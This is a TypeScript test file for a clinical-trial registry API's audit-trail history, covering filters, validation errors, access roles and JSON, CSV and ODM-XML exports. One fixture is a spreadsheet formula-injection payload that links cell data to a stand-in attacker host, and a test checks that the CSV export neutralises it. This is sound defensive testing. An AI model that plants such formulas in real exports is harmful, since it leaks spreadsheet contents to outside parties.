import { readOdm } from '../../libs/compliance/src/testing/odm-reader';
import { asText, download, eventsFromCsv } from '../support/downloads';
import { TestApp, startTestApp } from '../support/test-app';
import { registerBody, siteBody, statusBody } from '../support/trials';

const NCT = 'NCT05131412';
const HOUR = 3_600_000;
// A comma, quotes, CR LF and non-ASCII text: what breaks naive CSV and XML writers.
const AWKWARD = 'Sponsor said "go", site\r\nconfirmed; 北京 ✓ <ok> & done';
const FORMULA = '=HYPERLINK("https://evil.example/?"&A1)';

interface Change {
  field: string;
  from: unknown;
  to: unknown;
}
interface Entry {
  revision: number;
  type: string;
  actor: string;
  role: string;
  recordedAt: string;
  effectiveDate: string | null;
  reason: string | null;
  eventId: string;
  changes: Change[];
}

describe('history: filters and exports', () => {
  let t: TestApp;
  let auditor: string;
  let all: Entry[];

  beforeAll(async () => {
    t = await startTestApp();
    const [olga, ivan] = [t.token('operator', 'olga'), t.token('operator', 'ivan')];
    auditor = t.token('auditor', 'audrey');
    await t.http.post('/trials').set('Authorization', olga).send(registerBody(NCT)).expect(201); // 10:00
    t.clock.advance(HOUR);
    await t.http
      .post(`/trials/${NCT}/status`)
      .set('Authorization', olga)
      .send(statusBody('RECRUITING', { reason: AWKWARD }))
      .expect(200);
    t.clock.advance(HOUR);
    await t.http
      .post(`/trials/${NCT}/sites`)
      .set('Authorization', ivan)
      .send(siteBody('Guangzhou', { reason: FORMULA }))
      .expect(201);
    t.clock.advance(HOUR);
    await t.http
      .post(`/trials/${NCT}/enrollment`)
      .set('Authorization', ivan)
      .send({ count: 12, type: 'ACTUAL', effectiveDate: '2024-06', reason: 'Interim count' })
      .expect(200); // 13:00
    t.clock.advance(HOUR); // exports are made at 14:00
    all = (await t.http.get(`/trials/${NCT}/history?minRevision=4`).set('Authorization', auditor).expect(200)).body.entries;
  });
  afterAll(() => t.close());

  const revisions = async (query: string): Promise<number[]> => {
    const res = await t.http.get(`/trials/${NCT}/history?${query}`).set('Authorization', auditor).expect(200);
    return res.body.entries.map((e: Entry) => e.revision);
  };

  it('filters the history by event type (comma-separated), actor, time range [from, to) and all combined', async () => {
    expect(all.map((e) => e.revision)).toEqual([1, 2, 3, 4]);
    expect(await revisions('type=TrialStatusChanged')).toEqual([2]);
    expect(await revisions('type=TrialRegistered,SiteAdded')).toEqual([1, 3]);
    expect(await revisions('actor=ivan')).toEqual([3, 4]);
    expect(await revisions('from=2025-01-15T11:00:00Z&to=2025-01-15T13:00:00Z')).toEqual([2, 3]);
    expect(await revisions('from=2025-01-15T13:00:00%2B01:00')).toEqual([3, 4]);
    expect(await revisions('type=SiteAdded,EnrollmentUpdated&actor=ivan&from=2025-01-15T12:30:00Z')).toEqual([4]);
    expect(await revisions('actor=nobody')).toEqual([]);
  });

  it.each([
    ['type=Bogus', 'type'],
    ['type=TrialRegistered&type=SiteAdded', 'type'],
    ['type=', 'type'],
    ['type=SiteAdded,', 'type'],
    ['actor=', 'actor'],
    ['from=yesterday', 'from'],
    ['from=2025-01-15T10:00:00', 'from'],
    ['to=2025-02-30T00:00:00Z', 'to'],
    ['from=2025-01-15T12:00:00Z&to=2025-01-15T12:00:00Z', 'to'],
    ['page=2', 'page'],
    ['format=pdf', 'format'],
    ['', 'format'],
  ])('answers 400 problem+json naming the field for %j', async (query, field) => {
    const paths =
      field === 'format'
        ? [`/trials/${NCT}/history/export?${query}`]
        : [`/trials/${NCT}/history?${query}`, `/trials/${NCT}/history/export?format=json&${query}`];
    for (const path of paths) {
      const res = await t.http.get(path).set('Authorization', auditor);
      expect(res.status).toBe(400);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(res.body.errors.map((e: { field: string }) => e.field)).toContain(field);
    }
  });

  it('exports JSON: the filtered entries in an envelope naming the trial, time, exporter and filters', async () => {
    const res = await download(t.http, `/trials/${NCT}/history/export?format=json&actor=ivan&from=2025-01-15T12:00:00%2B00:00`, auditor);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/json(; charset=utf-8)?$/);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${NCT}-audit-trail.json"`);
    expect(res.headers['cache-control']).toBe('no-store');
    expect(JSON.parse(res.text)).toEqual({
      nctId: NCT,
      exportedAt: '2025-01-15T14:00:00.000Z',
      exportedBy: 'audrey',
      filters: { type: null, actor: 'ivan', from: '2025-01-15T12:00:00.000Z', to: null },
      entryCount: 2,
      entries: all.slice(2),
      // Each entry's link in the chain, read from the log; no checkpoint was signed in this app.
      integrity: {
        streamId: `trial-${NCT}`,
        links: all.slice(2).map((e) => ({
          revision: e.revision,
          previousHash: expect.stringMatching(/^[0-9a-f]{64}$/),
          hash: expect.stringMatching(/^[0-9a-f]{64}$/),
          metadata: expect.objectContaining({ eventId: e.eventId, actor: e.actor, recordedAt: e.recordedAt }),
        })),
        checkpoint: null,
      },
    });
  });

  it('exports CSV that reads back, row by field change, into the same entries, with the formula defused', async () => {
    const res = await download(t.http, `/trials/${NCT}/history/export?format=csv`, t.token('operator'));
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${NCT}-audit-trail.csv"`);
    expect(res.text).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1)"`);
    expect(eventsFromCsv(res.text)).toEqual(
      all.map((e) => ({
        revision: e.revision,
        recordedAt: e.recordedAt,
        effectiveDate: asText(e.effectiveDate),
        type: e.type,
        actor: e.actor,
        role: e.role,
        reason: e.reason === FORMULA ? `'${FORMULA}` : asText(e.reason),
        changes: e.changes.map((c) => ({ field: c.field, from: asText(c.from), to: asText(c.to) })),
      })),
    );
  });

  it('exports CDISC ODM-style XML with one AuditRecord per event: user, time, reason, event id, old and new values', async () => {
    const res = await download(t.http, `/trials/${NCT}/history/export?format=odm&type=TrialStatusChanged,SiteAdded`, auditor);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toMatch(/^application\/xml(; charset=utf-8)?$/);
    expect(res.headers['content-disposition']).toBe(`attachment; filename="${NCT}-audit-trail.xml"`);
    const { ODM: odm } = readOdm(res.text);
    expect(odm).toMatchObject({ ODMVersion: '1.3.2', FileType: 'Snapshot', CreationDateTime: '2025-01-15T14:00:00.000Z' });
    expect(odm['tl:Export']).toEqual({ ExportedBy: 'audrey', EntryCount: '2', Type: 'TrialStatusChanged,SiteAdded' });
    expect(odm.ClinicalData.AuditRecords.AuditRecord).toEqual(
      [all[1], all[2]].map((e) =>
        expect.objectContaining({
          'tl:EventType': e.type,
          UserRef: { UserOID: e.actor },
          DateTimeStamp: e.recordedAt,
          ReasonForChange: e.reason,
          SourceID: e.eventId,
          'tl:FieldChange': e.changes.map((c) => ({
            Field: c.field,
            ...(c.from === null ? {} : { OldValue: asText(c.from) }),
            ...(c.to === null ? {} : { NewValue: asText(c.to) }),
          })),
        }),
      ),
    );
  });

  it('exports a file with no entries, not a 404, when the filters match nothing', async () => {
    const res = await download(t.http, `/trials/${NCT}/history/export?format=csv&actor=nobody`, auditor);
    expect(res.status).toBe(200);
    expect(res.text).toBe('revision,recordedAt,effectiveDate,postedDate,type,actor,role,reason,field,from,to\r\n');
  });

  it('lets auditors and operators export, refuses readers (403) and anonymous callers (401)', async () => {
    for (const format of ['json', 'csv', 'odm']) {
      const res = await t.http.get(`/trials/${NCT}/history/export?format=${format}`).set('Authorization', t.token('reader'));
      expect(res.status).toBe(403);
      expect(res.headers['content-type']).toMatch(/^application\/problem\+json/);
    }
    expect((await t.http.get(`/trials/${NCT}/history?type=SiteAdded`).set('Authorization', t.token('reader'))).status).toBe(403);
    expect((await t.http.get(`/trials/${NCT}/history/export?format=json`)).status).toBe(401);
  });

  it('answers 404 for an unknown trial and 400 for a malformed NCT ID', async () => {
    const unknown = await t.http.get('/trials/NCT99999999/history/export?format=csv&actor=ivan').set('Authorization', auditor);
    expect(unknown.status).toBe(404);
    expect(unknown.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(unknown.headers['content-disposition']).toBeUndefined();
    expect((await t.http.get('/trials/NCT99999999/history?type=SiteAdded').set('Authorization', auditor)).status).toBe(404);
    expect((await t.http.get('/trials/NCT1/history/export?format=csv').set('Authorization', auditor)).status).toBe(400);
  });

  it('documents the export and its query parameters in the OpenAPI document', async () => {
    const doc = (await t.http.get('/openapi.json')).body;
    const names = doc.paths['/trials/{nctId}/history/export'].get.parameters.map((p: { name: string }) => p.name);
    expect(names.sort()).toEqual(['actor', 'format', 'from', 'minRevision', 'nctId', 'to', 'type']);
  });
});
